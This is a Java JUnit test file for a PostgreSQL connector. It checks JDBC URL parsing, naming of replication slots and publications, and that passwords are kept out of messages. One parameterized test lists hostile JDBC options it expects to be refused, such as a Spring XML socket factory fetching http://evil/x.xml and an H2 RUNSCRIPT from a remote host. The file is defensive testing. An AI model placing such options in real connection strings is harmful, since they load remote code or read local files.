package dev.entente.postgres;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.entente.connector.ConnectorKind.Problem;
import dev.entente.connector.Secret;
import dev.entente.connector.Settings;
import dev.entente.connector.SystemHost;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What the file may say of a PostgreSQL system. */
class PostgresKindTest {
    private final PostgresKind kind = new PostgresKind();

    private static Settings settings(String url, String... more) {
        Map<String, String> words = new HashMap<>(Map.of("url", url, "user", "u"));
        for (int i = 0; i < more.length; i += 2) {
            words.put(more[i], more[i + 1]);
        }
        return new Settings("lab", words, Map.of("password", Secret.of("canary-5431")));
    }

    private static Address address(String url, String... more) {
        List<Problem> problems = new ArrayList<>();
        Address address = Address.of(settings(url, more), problems);
        assertThat(problems).isEmpty();
        return Objects.requireNonNull(address);
    }

    @Nested
    class A_url {

        @Test
        void is_taken_apart_and_put_together_anew() {
            Address address =
                    address(
                            "jdbc:postgresql://a.example:5433,[::1],c/my%20db?sslmode=verify-full"
                                    + "&targetServerType=primary",
                            "sslrootcert", "/etc/ca.pem");

            assertThat(address.url()).isEqualTo("jdbc:postgresql://a.example:5433,[::1],c/my%20db");
            assertThat(address.options())
                    .containsOnly(
                            Map.entry("sslmode", "verify-full"),
                            Map.entry("targetServerType", "primary"),
                            Map.entry("sslrootcert", "/etc/ca.pem"));
        }

        @Test
        void may_be_written_without_jdbc() {
            assertThat(address("postgresql://localhost/db").url())
                    .isEqualTo("jdbc:postgresql://localhost/db");
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext"
                            + "&socketFactoryArg=http://evil/x.xml",
                    "sslfactory=evil.Factory",
                    "sslhostnameverifier=evil.Verifier",
                    "sslpasswordcallback=evil.Callback",
                    "authenticationPluginClassName=evil.Plugin",
                    "xmlFactoryFactory=LEGACY_INSECURE",
                    "loggerFile=/tmp/x&loggerLevel=TRACE",
                    "autoDeserialize=true",
                    "queryInterceptors=evil.Interceptor",
                    "allowLoadLocalInfile=true",
                    "INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                    "options=-c%20session_preload_libraries=evil",
                    "SSLMODE=disable",
                    "ssl%6Dod=x",
                    "service=x",
                    "jaasApplicationName=x",
                    "gsslib=x"
                })
        void with_an_option_that_is_not_in_the_list_is_refused(String option) {
            assertThat(kind.validate(settings("jdbc:postgresql://localhost/db?" + option)))
                    .isNotEmpty()
                    .allSatisfy(problem -> {
                        assertThat(problem.setting()).isEqualTo("url");
                        assertThat(problem.message()).contains("is not allowed; allowed are");
                    });
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "",
                    "jdbc:mysql://localhost/db",
                    "jdbc:postgresql:db",
                    "jdbc:postgresql://localhost",
                    "jdbc:postgresql://localhost/",
                    "jdbc:postgresql://local host/db",
                    "jdbc:postgresql://localhost:99999/db",
                    "jdbc:postgresql://localhost/db?sslmode=please",
                    "jdbc:postgresql://localhost/db#x",
                    "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'x'"
                })
        void that_is_none_is_refused(String url) {
            assertThat(kind.validate(settings(url))).isNotEmpty();
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "u:canary-5431@localhost/db",
                    "u:canary-5431/x@localhost/db",
                    "u:x/canary-5431@localhost/db",
                    "u:x?canary-5431@localhost/db",
                    "u:12@canary-5431@localhost/db",
                    "u:12/canary-5431@localhost/db",
                    "canary-5431@localhost/db",
                    "localhost/db?password=canary-5431"
                })
        void with_a_password_is_refused_without_showing_it(String place) {
            assertThat(kind.validate(settings("jdbc:postgresql://" + place)))
                    .singleElement()
                    .satisfies(problem ->
                            assertThat(problem.message())
                                    .contains("`password:`")
                                    .doesNotContain("canary"));
        }

        @Test
        void of_a_database_with_an_at_sign_in_its_name_is_none_with_a_password() {
            assertThat(address("jdbc:postgresql://localhost:5432/a@b").database()).isEqualTo("a@b");
        }
    }

    @Nested
    class Names_of_what_is_made {

        @Test
        void are_the_same_for_the_same_system_and_database() {
            Settings settings = settings("jdbc:postgresql://localhost/db");
            Address address = address("jdbc:postgresql://localhost/db");
            Address elsewhere = address("jdbc:postgresql://standby:5433/db");
            Address other = address("jdbc:postgresql://localhost/other");

            Names names = Names.of(settings, address);

            assertThat(names).isEqualTo(Names.of(settings, elsewhere));
            assertThat(names).isNotEqualTo(Names.of(settings, other));
            assertThat(names.slot()).matches("entente_lab_[0-9a-f]{8}");
            assertThat(names.publication()).isEqualTo(names.slot());
        }

        @Test
        void can_be_chosen() {
            Settings settings =
                    settings(
                            "jdbc:postgresql://localhost/db",
                            "slot",
                            "mine",
                            "publication",
                            "The Pub");
            Names names = Names.of(settings, address("jdbc:postgresql://localhost/db"));

            assertThat(names).isEqualTo(new Names("mine", "The Pub"));
        }

        @Test
        void are_checked() {
            assertThat(kind.validate(settings("jdbc:postgresql://localhost/db", "slot", "My-Slot")))
                    .extracting(Problem::setting)
                    .containsExactly("slot");
        }
    }

    @Test
    void what_it_opens_with_shows_no_secret() {
        Settings settings = settings("jdbc:postgresql://localhost/db");
        Address address = address("jdbc:postgresql://localhost/db");
        Sessions sessions =
                new Sessions(
                        "lab",
                        address,
                        "u",
                        settings.secret("password"),
                        new Failures("lab", "localhost", "u"));

        assertThat(sessions.toString() + settings).doesNotContain("canary");
    }

    @Test
    void wrong_settings_are_not_opened() {
        assertThatThrownBy(() -> kind.open(settings("nonsense"), new SystemHost()))
                .isInstanceOf(IllegalArgumentException.class);
    }
}
